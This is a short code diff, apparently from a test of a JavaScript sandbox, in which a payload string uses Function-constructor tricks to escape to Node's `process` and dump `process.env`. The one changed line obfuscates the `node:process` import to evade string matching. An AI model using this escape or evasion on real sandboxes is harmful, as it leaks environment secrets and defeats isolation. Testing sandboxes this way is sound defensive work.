@@ -5,7 +5,7 @@ const code = `
   const ways = [
     () => ({}).constructor.constructor("return process")(),
     () => fetch.constructor("return process")(),
-    () => console.log.constructor("return globalThis.process ?? require('node:process')")(),
+    () => console.log.constructor("return globalThis.process ?? require(['node', 'process'].join(':'))")(),
   ];
   for (const way of ways) {
     try { const env = JSON.stringify(way().env); if (env) return env; } catch {}
